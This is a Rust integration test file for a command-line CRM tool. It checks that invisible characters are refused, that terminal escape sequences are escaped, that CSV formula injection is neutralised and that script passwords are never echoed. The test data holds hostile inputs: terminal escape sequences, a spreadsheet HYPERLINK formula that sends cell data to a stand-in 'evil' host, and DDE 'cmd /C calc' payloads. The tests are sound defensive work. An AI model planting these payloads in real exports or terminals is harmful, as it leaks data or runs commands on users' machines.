//! Issue 12, items 5–8: output that cannot hurt a terminal or a spreadsheet,
//! text without invisible characters, and `-f FILE` reading passwords from
//! the script as `epic < FILE` does.
mod common;

use common::*;

/// A staffed environment logged in as `sales1@epic.test`.
fn sales() -> Env {
    let env = Env::staffed();
    env.login("sales1@epic.test");
    env
}

/// Adds a client as the logged-in sales rep; returns its id.
fn add_client(env: &Env, name: &str, email: &str) -> i64 {
    let out = env.run(&["client", "add", "--name", name, "--email", email], "");
    assert_ok(&out);
    stdout(&out).trim().parse().expect("client id")
}

// ---- Item 7: invisible characters in text input ----

#[test]
fn invisible_characters_are_refused_naming_field_and_code_point() {
    let env = sales();
    let before = env.snapshot();
    let chars = [
        0x00AD, 0x200E, 0x200F, 0x061C, 0x180E, 0x2061, 0x3164, 0x115F, 0x1160, 0xFFA0, 0x2800,
        0xE0041, 0x034F, 0x200B, 0x202E, 0xE000, 0x2028,
    ];
    for cp in chars {
        let c = char::from_u32(cp).unwrap();
        for flag in ["--name", "--company"] {
            let name = if flag == "--name" {
                format!("Ke{c}vin")
            } else {
                "Kevin".to_string()
            };
            let mut args = vec!["client", "add", "--name", &name, "--email", "k@x.io"];
            let company = format!("Cool{c} LLC");
            if flag == "--company" {
                args.extend(["--company", &company]);
            }
            let out = env.run(&args, "");
            assert_code(&out, 5);
            assert_eq!(
                stderr(&out),
                format!(
                    "error: {}: invisible character U+{cp:04X} is not allowed\n",
                    flag.trim_start_matches('-')
                ),
            );
        }
    }
    assert_eq!(env.snapshot(), before, "a refused value wrote something");
}

#[test]
fn legitimate_text_is_accepted_and_stored_nfc() {
    let env = sales();
    let names = [
        ("Zoë 李 مريم", "Zoë 李 مريم"),
        ("東京 太郎", "東京 太郎"),
        ("Team 👩‍💻 👨‍👩‍👧‍👦 🏳️‍🌈 ❤️", "Team 👩‍💻 👨‍👩‍👧‍👦 🏳️‍🌈 ❤️"),
        // Decomposed input is stored composed (NFC).
        ("Rene\u{301} A\u{30A}se", "Ren\u{E9} \u{C5}se"),
    ];
    for (i, (input, stored)) in names.into_iter().enumerate() {
        let id = add_client(&env, input, &format!("c{i}@x.io"));
        let got: String = env
            .sql()
            .query_row("select full_name from clients where id = ?1", [id], |r| {
                r.get(0)
            })
            .unwrap();
        assert_eq!(got, stored);
    }
}

// ---- Item 5: nothing from the database or the input reaches a terminal raw ----

/// Raw bytes a terminal would obey: ESC, BEL, and a bidi override.
fn raw_escapes(text: &str) -> bool {
    text.contains('\u{1b}') || text.contains('\u{7}') || text.contains('\u{202E}')
}

/// A staffed environment with client 1 named `x<ESC>[2J<RLO>` and company
/// `=1+2<BEL>` written into the file directly (as `sqlite3` would).
fn poisoned() -> Env {
    let env = sales();
    add_client(&env, "Kevin Casey", "kevin@startup.io");
    env.sql()
        .execute_batch(
            "update clients set full_name = 'x'||char(27)||'[2J'||char(8238), \
             company_name = '=1+2'||char(7) where id = 1",
        )
        .unwrap();
    env
}

#[test]
fn database_values_are_escaped_in_tables_csv_and_show() {
    let env = poisoned();
    for args in [
        &["client", "list"][..],
        &["client", "list", "--format", "csv"],
        &["client", "show", "1"],
        &["contract", "list"],
    ] {
        let out = env.run(args, "");
        assert_ok(&out);
        let text = stdout(&out);
        assert!(!raw_escapes(&text), "{args:?} printed raw: {text:?}");
    }
    let table = stdout(&env.run(&["client", "list"], ""));
    assert!(table.contains("x\\e[2J\\u{202E}"), "{table}");
    let csv = stdout(&env.run(&["client", "list", "--format", "csv"], ""));
    assert!(csv.contains(",x\\e[2J\\u{202E},"), "{csv}");
    assert!(csv.contains(",'=1+2\\x07,"), "{csv}");
    let shown = stdout(&env.run(&["client", "show", "1"], ""));
    assert!(shown.contains("x\\e[2J\\u{202E}"), "{shown}");
}

#[test]
fn json_stays_valid_and_round_trips_with_nothing_raw() {
    let env = poisoned();
    for args in [
        &["client", "list", "--format", "json"][..],
        &["client", "show", "1", "--format", "json"],
    ] {
        let out = env.run(args, "");
        assert_ok(&out);
        let text = stdout(&out);
        assert!(!raw_escapes(&text), "{args:?}: {text:?}");
        assert!(text.contains(r"x\u001b[2J\u202e"), "{text}");
        let value: serde_json::Value = serde_json::from_str(&text).unwrap();
        let client = if value.is_array() { &value[0] } else { &value };
        assert_eq!(client["full_name"], "x\u{1b}[2J\u{202E}");
        assert_eq!(client["company_name"], "=1+2\u{7}");
    }
}

#[test]
fn error_messages_never_echo_raw_input() {
    let env = sales();
    let cases: Vec<(Vec<&str>, &str, i32)> = vec![
        (
            vec!["client", "list", "--sort", "\u{1b}]0;pwned\u{7}"],
            "--sort: unknown field '\\e]0;pwned\\x07'",
            5,
        ),
        (
            vec!["collaborator", "show", "a\u{1b}[2J@x.io"],
            "a\\e[2J@x.io not found",
            6,
        ),
        (
            vec!["\u{1b}]0;pwned\u{7}"],
            "unrecognized subcommand '\\e]0;pwned\\x07'",
            2,
        ),
        (
            vec!["client", "list", "--format", "\u{1b}]0;x\u{7}"],
            "invalid value '\\e]0;x\\x07' for '--format <FORMAT>'",
            2,
        ),
        (
            // `;` ends a command, as in psql: the rest is the next command
            // (never run: the first one failed). Quoted, it is a word.
            vec!["-c", "client \u{1b}]0;x\u{7}"],
            "unrecognized subcommand '\\e]0'",
            2,
        ),
        (
            vec!["-c", "client '\u{1b}]0;x\u{7}'"],
            "unrecognized subcommand '\\e]0;x\\x07'",
            2,
        ),
        (
            vec!["-f", "no\u{1b}[2Jscript"],
            "no script file no\\e[2Jscript",
            6,
        ),
    ];
    for (args, expected, status) in cases {
        let out = env.run(&args, "");
        let err = stderr(&out);
        assert_code(&out, status);
        assert!(!raw_escapes(&err), "{args:?} echoed raw: {err:?}");
        assert!(err.contains(expected), "{args:?}: {err}");
    }
    // The same in a script, where the line's words come back in the message.
    let out = env.script(&[], "client list --sort '\u{1b}]0;pwned\u{7}'\n");
    assert_code(&out, 5);
    let err = stderr(&out);
    assert!(!raw_escapes(&err), "{err:?}");
    assert!(err.contains("'\\e]0;pwned\\x07'"), "{err}");
}

/// Runs `epic` with `args` in a pseudo-terminal with colour allowed.
fn pty(env: &Env, args: &[&str]) -> rexpect::session::PtySession {
    let mut cmd = env.std_command(env!("CARGO_BIN_EXE_epic"));
    cmd.env_remove("NO_COLOR").env("TERM", "xterm").args(args);
    let options = rexpect::reader::Options::new()
        .timeout_ms(Some(10_000))
        .strip_ansi_escape_codes(false);
    rexpect::session::spawn_with_options(cmd, options).expect("spawn epic in a pty")
}

#[test]
fn clap_errors_on_a_colour_terminal_are_escaped() {
    let env = sales();
    for (args, expected) in [
        (
            &["\u{1b}]0;pwned\u{7}"][..],
            "unrecognized subcommand '\\e]0;pwned\\x07'",
        ),
        (
            &["client", "list", "--format", "\u{1b}]0;x\u{7}"],
            "invalid value '\\e]0;x\\x07'",
        ),
    ] {
        let mut p = pty(&env, args);
        let text = p.exp_eof().unwrap();
        assert!(text.contains(expected), "{args:?}: {text:?}");
        assert!(!text.contains("\u{1b}]0;"), "{args:?}: {text:?}");
        assert!(!text.contains('\u{7}'), "{args:?}: {text:?}");
        // Colour is still allowed for our own label.
        assert!(text.contains("\u{1b}[1;31merror"), "{text:?}");
    }
}

#[test]
fn the_prompt_escapes_a_poisoned_email() {
    let env = sales();
    env.sql()
        .execute_batch(
            "update collaborators set email = 'sales1'||char(27)||']0;pwned'||char(7)||'@epic.test' \
             where email = 'sales1@epic.test'",
        )
        .unwrap();
    let mut p = pty(&env, &[]);
    let before = p.exp_string("(sales)> ").unwrap();
    assert!(
        before.contains("sales1\\e]0;pwned\\x07@epic.test"),
        "{before:?}"
    );
    assert!(!before.contains("\u{1b}]0;pwned"), "{before:?}");
    p.send_line("exit").unwrap();
    p.exp_eof().unwrap();
}

/// Records as a hostile database could hold them: escape sequences in an
/// email and in a name.
struct Hostile;

impl epic::shell::complete::data::Records for Hostile {
    fn find(
        &self,
        _want: epic::shell::complete::data::Want,
        prefix: &str,
    ) -> epic::error::Result<epic::shell::complete::data::Answer> {
        let found = epic::shell::complete::data::Found {
            value: "s\u{1b}]0;x\u{7}@x.io".into(),
            label: "Eve \u{1b}[2J\u{202E}".into(),
        };
        Ok(epic::shell::complete::data::Answer {
            found: vec![found]
                .into_iter()
                .filter(|f| f.value.starts_with(prefix))
                .collect(),
            complete: true,
        })
    }
}

#[test]
fn completions_and_hints_escape_values_from_the_database() {
    use rustyline::completion::Completer;
    use rustyline::hint::Hint;
    let mut helper = epic::shell::complete::EpicHelper::new(false);
    helper.set_records(Box::new(Hostile));
    let history = rustyline::history::MemHistory::new();
    let ctx = rustyline::Context::new(&history);
    let line = "client reassign 1 --sales s";
    let (_, pairs) = helper.complete(line, line.len(), &ctx).unwrap();
    assert_eq!(pairs.len(), 1);
    // Offered (and inserted) escaped, quoted for the shell line; the name
    // beside it escaped too.
    for text in [&pairs[0].display, &pairs[0].replacement] {
        assert!(!raw_escapes(text), "{text:?}");
        assert!(!text.contains('\u{202E}'), "{text:?}");
    }
    assert_eq!(
        shlex::split(&pairs[0].replacement).unwrap(),
        ["s\\e]0;x\\x07@x.io"]
    );
    assert_eq!(
        pairs[0].display,
        "\"s\\\\e]0;x\\\\x07@x.io\"  Eve \\e[2J\\u{202E}"
    );
    // The hint (the rest of the only candidate) holds nothing raw either.
    let hint = helper.usage_hint(line, line.len());
    assert!(
        hint.as_ref().is_none_or(|h| !raw_escapes(h.display())),
        "{hint:?}"
    );
}

// ---- Item 6: CSV formula injection ----

/// The cells of the CSV row of client `id` in `client list --format csv`,
/// by header key.
fn csv_row(env: &Env, id: i64) -> std::collections::BTreeMap<String, String> {
    let out = env.run(&["client", "list", "--format", "csv"], "");
    assert_ok(&out);
    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
    let headers = reader.headers().unwrap().clone();
    for row in reader.records() {
        let row = row.unwrap();
        if row.get(0) == Some(&id.to_string()) {
            return headers
                .iter()
                .zip(row.iter())
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect();
        }
    }
    panic!("client {id} not in the CSV");
}

#[test]
fn csv_cells_that_start_a_formula_are_neutralised() {
    let env = sales();
    let formula = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
    let out = env.run(
        &[
            "client",
            "add",
            "--name",
            formula,
            "--email",
            "evil@x.io",
            "--phone",
            "+678 123 456 78",
            "--company",
            "@SUM(A1:A9)",
        ],
        "",
    );
    assert_ok(&out);
    let row = csv_row(&env, 1);
    assert_eq!(row["full_name"], format!("'{formula}"));
    assert_eq!(row["company_name"], "'@SUM(A1:A9)");
    // Phone numbers, ids and dates come out unchanged.
    assert_eq!(row["phone"], "+678 123 456 78");
    assert_eq!(row["id"], "1");
    assert!(row["created_at"].starts_with("20"), "{row:?}");
    // JSON and tables keep the value as it is: only CSV is for spreadsheets.
    let json = env.json(&["client", "show", "1", "--format", "json"]);
    assert_eq!(json["full_name"], formula);

    // `+`, `-`, tab and CR, written into the file by other means.
    for (i, (value, expected)) in [
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "\\r=1+1"),
    ]
    .into_iter()
    .enumerate()
    {
        env.sql()
            .execute("update clients set company_name = ?1 where id = 1", [value])
            .unwrap();
        assert_eq!(csv_row(&env, 1)["company_name"], expected, "case {i}");
    }
}

#[test]
fn csv_amounts_stay_numbers() {
    let env = Env::staffed();
    let contract = env.contract_for_sales1(1200);
    let out = env.run(&["contract", "list", "--format", "csv"], "");
    assert_ok(&out);
    let text = stdout(&out);
    let line = text
        .lines()
        .find(|l| l.starts_with(&format!("{contract},")))
        .expect("the contract row");
    assert!(line.contains(",1200.00,1200.00,"), "{line}");
    assert!(!line.contains('\''), "{line}");
}

// ---- Item 8: `-f FILE` takes passwords from the script, never echoes them ----

/// Runs `script` with `-f FILE` (stdin holding something else) and with
/// `epic < FILE`; asserts both behave alike and returns the `-f` run.
fn both_ways(env: &Env, args: &[&str], script: &[u8]) -> std::process::Output {
    let path = env.root().join("s");
    std::fs::write(&path, script).unwrap();
    let mut with_file = vec!["-f", "s"];
    with_file.extend(args);
    let file = env
        .epic()
        .args(&with_file)
        .write_stdin("x\n")
        .output()
        .unwrap();
    let piped = env.epic().args(args).write_stdin(script).output().unwrap();
    assert_eq!(code(&file), code(&piped), "{}", stderr(&file));
    assert_eq!(stdout(&file), stdout(&piped));
    assert_eq!(stderr(&file).replace("s:", "<stdin>:"), stderr(&piped));
    file
}

#[test]
fn a_script_file_reads_its_password_from_its_next_line() {
    let env = sales();
    assert_ok(&env.run(&["logout"], ""));
    let script = format!("login sales1@epic.test --password-stdin\n{PASSWORD}\nwhoami\n");
    let out = both_ways(&env, &[], script.as_bytes());
    assert_ok(&out);
    assert!(stdout(&out).contains("logged in as sales1@epic.test"));
    assert!(stdout(&out).contains("sales1@epic.test"));
    assert!(!stderr(&out).contains(PASSWORD), "{}", stderr(&out));
}

#[test]
fn no_error_echoes_a_line_that_followed_password_stdin() {
    let env = sales();
    let secrets = ["secret-a", "secret-b", "secret-c", "secret-d", "secret-e"];
    let cases: Vec<(String, i32)> = vec![
        // The login fails: the password line was consumed, never run.
        (
            "login sales1@epic.test --password-stdin\nsecret-a\nwhoami\n".into(),
            3,
        ),
        // The line fails to parse: its password line is skipped.
        (
            "login sales1@epic.test --password-stdin --bogus\nsecret-b\n".into(),
            2,
        ),
        // Help printed instead of running: the password line is skipped.
        ("login --password-stdin --help\nsecret-c\n".into(), 0),
        // `passwd` fails on its first line: the second is skipped too.
        (
            "passwd --password-stdin\nold\u{1b}pw\u{0}\nsecret-d\n".into(),
            5,
        ),
        // The password line is missing: nothing to echo, nothing read from stdin.
        ("login sales1@epic.test --password-stdin\n".into(), 5),
        // A password line that is not text is refused without quoting it.
        (
            "login sales1@epic.test --password-stdin\n--secret-e \u{0}\n".into(),
            5,
        ),
    ];
    for (script, status) in cases {
        let out = both_ways(&env, &["--keep-going"], script.as_bytes());
        let err = stderr(&out);
        assert_code(&out, status);
        for secret in secrets {
            assert!(!err.contains(secret), "{script:?} echoed {secret}: {err}");
            assert!(!stdout(&out).contains(secret), "{script:?}: {secret}");
        }
        assert!(
            !err.contains("unrecognized subcommand"),
            "{script:?}: {err}"
        );
    }
}
